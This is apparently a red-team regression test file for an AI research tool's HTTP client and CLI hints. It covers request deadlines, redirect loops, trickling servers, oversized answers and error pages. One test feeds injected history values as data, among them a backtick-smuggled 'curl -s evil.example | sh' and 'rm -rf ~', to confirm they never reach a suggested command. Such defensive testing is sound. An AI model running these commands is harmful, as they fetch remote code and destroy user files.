"""Red team (helper 144) of the day's changes: the API agents' whole-request deadline (agents/http_client.py), a bare
error body quoted (agents/llm.py), `submit`'s refusal before any loop starts, and the hint that names the workers the
latest loop had (loop/activity.py). Each test marked BROKE failed before its fix.

- A server (or proxy) that answered each POST with a 307 to itself just before the deadline held an ask 21 deadlines
  (the SDKs follow 20 redirects, each hop a request of its own to the transport, with a deadline of its own), and the
  SDK then retried the TooManyRedirects: 7 x 21 x TIMEOUT_S, past 24 h.
- Past the deadline the request was left to its thread, which ended when the server did: one that trickles its headers
  for ever kept a thread and a connection per ask given up on (or stopped with Ctrl-C), all night; and one given up on
  before it had connected went on to connect, send, and wait.
- The body's deadline was checked between reads, each of which waited the whole read timeout (TIMEOUT_S itself): a
  byte just before the deadline, then silence, held an ask twice TIMEOUT_S.
- An answer's body was read whole, however long: a server that sent without end filled the loop's memory as fast as
  the network carried it, until the deadline.
- An error whose body is no JSON (nginx's 413 page for a prompt over its client_max_body_size, a proxy's HTML) was
  "Error code: 413"; quoted as it came, it put the page, line breaks and all, however long, into the ledger's reason
  and the error the loop stops with.
- A train.py nested past what Python's parser takes (`x = ----...1`) raised MemoryError or RecursionError out of
  guard.rejection: `submit`'s new check ended in a traceback.
- `submit`'s check asked guard.rejection only: the change already measured on this best, submitted again with no loop
  running, started a loop only to be refused by it.
- A `try` records a loop of no workers: after it, and in its own refusal, the hint named a plain `autoresearch run` for
  what a loop with --workers 3 left in flight, which is refused (its share of the cores is not the baseline's).
- A sessions.jsonl line of no loop's put its text (shell syntax, a line break, 100 kB) into the hint's command.
"""

from __future__ import annotations

import contextlib
import os
import signal
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import resources
from pathlib import Path

import pytest
from test_llm_server_failures import agent_at

from autoresearch.agents.base import Context, ProposalError
from autoresearch.loop import activity, guard

TRAIN_PY = resources.files("autoresearch.workspace").joinpath("templates", "train.py").read_text()


@contextmanager
def server(answer: Callable[[BaseHTTPRequestHandler], None], get: bool = False) -> Iterator[str]:
    """A server on 127.0.0.1 that answers each POST (or GET) with `answer(handler)`; yields its address."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args) -> None:
            pass

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", "0")))
            answer(self)

        def do_GET(self) -> None:
            answer(self) if get else self.send_error(405)

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def trickle_headers(seconds: float) -> Callable[[BaseHTTPRequestHandler], None]:
    """An answer whose status line comes, then a header a byte every 0.1 s for `seconds` (each read of the socket gets
    one in time); it ends early where the client shuts the connection."""

    def trickle(handler: BaseHTTPRequestHandler) -> None:
        with contextlib.suppress(OSError):
            handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Pad: ")
            for _ in range(round(seconds * 10)):
                handler.wfile.write(b"a")
                handler.wfile.flush()
                time.sleep(0.1)

    return trickle


def warm(agent) -> None:
    """The SDK's modules it imports at its first request, imported before a test times one."""
    _ = agent.client.chat.completions if hasattr(agent.client, "chat") else agent.client.messages


@pytest.mark.slow  # a second or two: the deadline met
@pytest.mark.parametrize("kind", ["openai", "anthropic"])
def test_redirects_do_not_multiply_the_whole_request_deadline(kind, tmp_path, monkeypatch) -> None:
    """BROKE, fixed: each hop of a redirect had a deadline of its own; 21 hops of 0.4 s held an ask of 1 s for 8 s
    and more, and the SDK retried the TooManyRedirects after it."""
    module = "autoresearch.agents.openai_agent" if kind == "openai" else "autoresearch.agents.anthropic_agent"
    monkeypatch.setattr(f"{module}.TIMEOUT_S", 1.0)
    monkeypatch.setattr(f"{module}.MAX_RETRIES", 1)

    def redirect(handler: BaseHTTPRequestHandler) -> None:
        time.sleep(0.4)
        handler.send_response(307)
        handler.send_header("Location", handler.path)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    with server(redirect) as url:
        agent = agent_at(kind, url, monkeypatch)
        warm(agent)
        started = time.monotonic()
        with pytest.raises(ProposalError, match=r"gave no whole answer within 1 s"):
            agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
        took = time.monotonic() - started
    assert took < 8, took  # 17 s before: 2 tries of 21 hops


NGINX_413 = (
    "<html>\r\n<head><title>413 Request Entity Too Large</title></head>\r\n<body>\r\n<center><h1>413 Request Entity "
    "Too Large</h1></center>\r\n<hr><center>nginx/1.24.0</center>\r\n</body>\r\n</html>\r\n"
)


@pytest.mark.slow  # the SDKs' first import: seconds
@pytest.mark.parametrize("kind", ["openai", "anthropic"])
@pytest.mark.parametrize("page", [NGINX_413, NGINX_413 + "<!-- padding -->\n" * 20_000], ids=["nginx", "huge"])
def test_an_error_page_is_quoted_on_one_line_and_not_whole(kind, page, tmp_path, monkeypatch) -> None:
    """BROKE, fixed: a non-JSON error body was "Error code: 413"; quoted as it came, nginx's page put six lines into
    what is one line of the verdicts (and of `wait`'s output), and a proxy's page of 340 kB went whole into the ledger's
    reason and every line that shows it."""

    def page_413(handler: BaseHTTPRequestHandler) -> None:
        data = page.encode()
        handler.send_response(413)
        handler.send_header("Content-Type", "text/html")
        handler.send_header("Content-Length", str(len(data)))
        handler.end_headers()
        handler.wfile.write(data)

    with server(page_413) as url:
        agent = agent_at(kind, url, monkeypatch)
        with pytest.raises(ProposalError) as failed:
            agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
    said = str(failed.value)
    assert "HTTP 413" in said and "413 Request Entity Too Large" in said, said  # still says what the server said
    assert "\n" not in said and "\r" not in said and len(said) < 1000, said[:2000]


@pytest.mark.parametrize(
    "nested",
    ["x = " + "-" * 100_000 + "1\n", "x = " + "+".join(["1"] * 100_000) + "\n", "x = " + "not " * 50_000 + "1\n"],
    ids=["unary minus", "sum", "not"],
)
def test_a_train_py_too_deep_for_the_parser_is_refused_not_raised(nested: str) -> None:
    """BROKE, fixed: guard.rejection raised MemoryError or RecursionError (ast.parse's, for what Python cannot
    compile either): `submit`'s check before any loop ended in a traceback."""
    why = guard.rejection(TRAIN_PY, TRAIN_PY + nested)
    assert why is not None and why.startswith("train.py is not valid Python"), why


def test_a_try_after_a_loop_with_workers_leaves_the_hint_naming_that_loops_workers(tmp_path: Path) -> None:
    """BROKE, fixed: `try` records a loop of no workers; after it (and from within it: its refusal of what that loop
    left in flight) the hint named a plain `autoresearch run`, refused for its share of the cores."""
    activity.start_session(tmp_path, ["cpu 0", "cpu 1", "cpu 2"], time.time() - 60)
    activity.end_session(tmp_path)
    activity.start_session(tmp_path, [], time.time(), submissions=False)  # the `try`, running
    assert activity.run_command(tmp_path, "--agent queue") == "`autoresearch run --agent queue --workers 3`"
    activity.end_session(tmp_path)
    assert activity.run_command(tmp_path, "--agent queue") == "`autoresearch run --agent queue --workers 3`"


@pytest.mark.parametrize(
    "workers",
    [["gpu 0`; curl -s evil.example | sh; `", "gpu 1"], ["gpu 0\n  hint: rm -rf ~"], ["gpu " + "9" * 100_000]],
    ids=["shell", "newline", "huge"],
)
def test_a_history_line_of_no_loops_workers_is_not_named_in_the_hint(tmp_path: Path, workers: list[str]) -> None:
    """BROKE, fixed: a sessions.jsonl line written by hand (or by a program that could reach the state) put its
    text, shell syntax, a line of its own or 100 kB, into the command the hint tells a person or an agent to run."""
    import json

    line = json.dumps({"started": time.time(), "ended": time.time() + 1, "workers": workers})
    (tmp_path / activity.HISTORY_NAME).write_text(line + "\n")
    assert activity.run_command(tmp_path, "--agent queue") == (
        "`autoresearch run --agent queue` (with the --gpus or --workers it had)"
    )


@pytest.mark.slow  # two seconds: three asks of 0.3 s, and the threads' ends waited for
@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "through HTTP_PROXY"])
@pytest.mark.parametrize("kind", ["openai", "anthropic"])
def test_an_ask_given_up_on_leaves_no_thread_or_connection_behind(kind, proxied, tmp_path, monkeypatch) -> None:
    """BROKE, fixed: past the deadline the request was left to its thread, which ended when the server did: one
    that trickles its headers for ever kept a thread and a connection for each ask given up on, all night (an ask every
    30 s to 15 min)."""
    module = "autoresearch.agents.openai_agent" if kind == "openai" else "autoresearch.agents.anthropic_agent"
    monkeypatch.setattr(f"{module}.TIMEOUT_S", 0.3)
    served: list[threading.Event] = []

    def trickle(handler: BaseHTTPRequestHandler) -> None:
        ended = threading.Event()
        served.append(ended)
        try:
            trickle_headers(60)(handler)  # until the client shuts the connection
        finally:
            ended.set()

    for name in ("NO_PROXY", "no_proxy", "ALL_PROXY", "all_proxy", "HTTPS_PROXY", "https_proxy", "http_proxy"):
        monkeypatch.delenv(name, raising=False)
    with server(trickle) as url:
        if proxied:  # the server is the proxy; the API's host is never reached
            monkeypatch.setenv("HTTP_PROXY", url)
        agent = agent_at(kind, "http://api.invalid:8000" if proxied else url, monkeypatch)
        for _ in range(3):
            with pytest.raises(ProposalError, match=r"gave no whole answer within 0\.3 s"):
                agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline and any(t.name == "autoresearch-http" for t in threading.enumerate()):
            time.sleep(0.05)
        left = [t for t in threading.enumerate() if t.name == "autoresearch-http"]
        assert not left, left
        # the server saw each connection it served end (under load, an ask may be given up on before its request
        # was read: CI once served two of the three)
        assert 1 <= len(served) <= 3 and all(ended.wait(2) for ended in served)


@pytest.mark.slow  # a second
def test_a_ctrl_c_while_an_ask_waits_stops_it_and_leaves_no_thread(tmp_path, monkeypatch) -> None:
    """Ctrl-C while the headers trickle: KeyboardInterrupt at once, and the request's thread ends with it."""
    monkeypatch.setattr("autoresearch.agents.openai_agent.TIMEOUT_S", 30.0)

    # Python's own handler, whatever an earlier test in this process left: in CI the SIGINT raised nothing once, and
    # the ask ran to its deadline
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with server(trickle_headers(30)) as url:
            agent = agent_at("openai", url, monkeypatch)
            threading.Timer(0.5, os.kill, (os.getpid(), signal.SIGINT)).start()  # as a terminal's
            started = time.monotonic()
            with pytest.raises(KeyboardInterrupt):
                agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
            assert time.monotonic() - started < 5
    finally:
        signal.signal(signal.SIGINT, previous)
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline and any(t.name == "autoresearch-http" for t in threading.enumerate()):
        time.sleep(0.05)
    assert not [t for t in threading.enumerate() if t.name == "autoresearch-http"]


@pytest.mark.slow  # seconds: a loop with a worker, and `submit` beside it
def test_a_resubmission_of_a_change_measured_on_this_best_starts_no_loop(workspace, capsys, monkeypatch) -> None:
    """BROKE, fixed: with no loop running, a `submit` of the very train.py already measured on this best (an agent
    that submits its discarded change again) started a loop in the background only to have it refuse the repeat,
    which then idled 10 minutes; `submit`'s check before any loop asked only guard.rejection."""
    from test_scheduler import scheduler, wait_until
    from test_submit import background_loop, beside, held, inbox_files, rows, submit

    from autoresearch.cli import main

    release = threading.Event()
    release.set()
    sched, _ = scheduler(workspace, inbox=True, gate=held(release))
    sched.run(None)  # the baseline

    def scenario():
        assert submit(workspace, capsys, 0.9)[:2] == (0, "exp 2 queued\n")
        wait_until(lambda: rows(workspace)[1].status.final)

    beside(sched, scenario)  # the loop ends with the scenario: none runs now
    background_loop(monkeypatch, lambda argv, **_: pytest.fail("no loop is started for a refused submission"))
    rc, out, err, _ = submit(workspace, capsys, 0.9)
    assert (rc, out) == (2, "") and "rejected before running: the same train.py as exp 2, already measured" in err
    assert "change train.py (it holds your change again) and submit it" in err
    assert constant_lr(workspace.read_train_py()) == 0.9 and inbox_files(workspace) == [] and len(rows(workspace)) == 2
    assert main(["submit", "-m", "again", "--workspace", str(workspace.root)]) == 2  # said again, loop or none


def constant_lr(source: str) -> float:
    from loop_support import constant

    return constant(source, "LR")


@pytest.mark.slow  # two seconds: a slow 503, the SDK's back-off, a retry
@pytest.mark.parametrize("kind", ["openai", "anthropic"])
def test_each_retry_of_the_sdk_has_a_deadline_of_its_own(kind, tmp_path, monkeypatch) -> None:
    """The deadline a request carries to its redirects is not carried to the SDK's retry (a request of its own): a
    503 that came 0.7 s into a 1 s deadline leaves the retry its whole second."""
    module = "autoresearch.agents.openai_agent" if kind == "openai" else "autoresearch.agents.anthropic_agent"
    monkeypatch.setattr(f"{module}.TIMEOUT_S", 1.0)
    monkeypatch.setattr(f"{module}.MAX_RETRIES", 1)
    asked: list[float] = []

    def slow_then_refused(handler: BaseHTTPRequestHandler) -> None:
        asked.append(time.monotonic())
        first = len(asked) == 1
        if first:
            time.sleep(0.7)
        else:
            time.sleep(0.5)  # within its own deadline, not within what the first one's left
        data = b'{"error": {"type": "invalid_request_error", "message": "scripted"}}'
        handler.send_response(503 if first else 400)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(data)))
        handler.send_header("Retry-After", "0")
        handler.end_headers()
        handler.wfile.write(data)

    with server(slow_then_refused) as url:
        agent = agent_at(kind, url, monkeypatch)
        with pytest.raises(ProposalError, match=r"HTTP 400\): scripted"):
            agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
    assert len(asked) == 2


@pytest.mark.slow  # two seconds: the deadline met
@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_a_body_that_falls_silent_just_before_the_deadline_is_held_no_longer_than_it(chunked, tmp_path, monkeypatch):
    """BROKE, fixed: the deadline was checked between the body's reads, each of which waited the whole read timeout
    (TIMEOUT_S itself): a byte just before the deadline, then silence, held the ask twice TIMEOUT_S (20 min, not 10)."""
    monkeypatch.setattr("autoresearch.agents.openai_agent.TIMEOUT_S", 1.0)

    def late_byte(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        if chunked:
            handler.send_header("Transfer-Encoding", "chunked")
        else:
            handler.send_header("Content-Length", "1000")
        handler.end_headers()
        handler.wfile.flush()
        time.sleep(0.8)
        with contextlib.suppress(OSError):
            handler.wfile.write(b"1\r\n{\r\n" if chunked else b"{")
            handler.wfile.flush()
            time.sleep(5)

    with server(late_byte) as url:
        agent = agent_at("openai", url, monkeypatch)
        warm(agent)
        started = time.monotonic()
        with pytest.raises(ProposalError, match=r"gave no whole answer within 1 s"):
            agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
        took = time.monotonic() - started
    assert took < 1.5, took


@pytest.mark.slow  # two seconds
def test_an_ask_given_up_on_while_it_connects_leaves_no_thread_behind(tmp_path, monkeypatch) -> None:
    """BROKE, fixed: given up on before its connection was made (a slow DNS or connect, a redirect's hop after the
    deadline), the request had nothing to shut; its thread then connected, sent the request, and waited on the answer
    nobody would read, for ever against a server that trickles."""
    import httpcore2

    monkeypatch.setattr("autoresearch.agents.openai_agent.TIMEOUT_S", 0.3)
    slow = httpcore2.SyncBackend.connect_tcp

    def connect_late(self, *args, **kwargs):
        time.sleep(0.6)
        return slow(self, *args, **kwargs)

    monkeypatch.setattr(httpcore2.SyncBackend, "connect_tcp", connect_late)

    with server(trickle_headers(10)) as url:
        agent = agent_at("openai", url, monkeypatch)
        with pytest.raises(ProposalError, match=r"gave no whole answer within 0\.3 s"):
            agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline and any(t.name == "autoresearch-http" for t in threading.enumerate()):
            time.sleep(0.05)
        assert not [t for t in threading.enumerate() if t.name == "autoresearch-http"]


@pytest.mark.slow  # a second or two
@pytest.mark.parametrize("status", [200, 500])
@pytest.mark.parametrize("kind", ["openai", "anthropic"])
def test_an_answer_past_any_answers_size_is_cut_off_not_read_into_memory(kind, status, tmp_path, monkeypatch) -> None:
    """BROKE, fixed: an answer's body was read whole, however long: a server (a base URL that names something else, a
    broken proxy) that sent without end filled the loop's memory as fast as the network carried it, until the
    deadline (TIMEOUT_S, 10 min). Here the limit is made 1 MiB and the server sends 4 MiB, then waits."""
    from autoresearch.agents import http_client

    module = "autoresearch.agents.openai_agent" if kind == "openai" else "autoresearch.agents.anthropic_agent"
    monkeypatch.setattr(f"{module}.TIMEOUT_S", 6.0)
    monkeypatch.setattr(f"{module}.MAX_RETRIES", 0)
    monkeypatch.setattr(http_client, "MAX_ANSWER_BYTES", 1 << 20, raising=False)

    def endless(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(1 << 40))
        handler.end_headers()
        with contextlib.suppress(OSError):
            for _ in range(64):
                handler.wfile.write(b" " * (64 << 10))
            handler.wfile.flush()
            time.sleep(8)

    with server(endless) as url:
        agent = agent_at(kind, url, monkeypatch)
        warm(agent)
        started = time.monotonic()
        with pytest.raises(ProposalError, match=r"gave an answer over 1 MiB"):
            agent.propose(Context(tmp_path, "program", TRAIN_PY, 0.97, 0.0012))
        assert time.monotonic() - started < 4  # 6 s before: the deadline
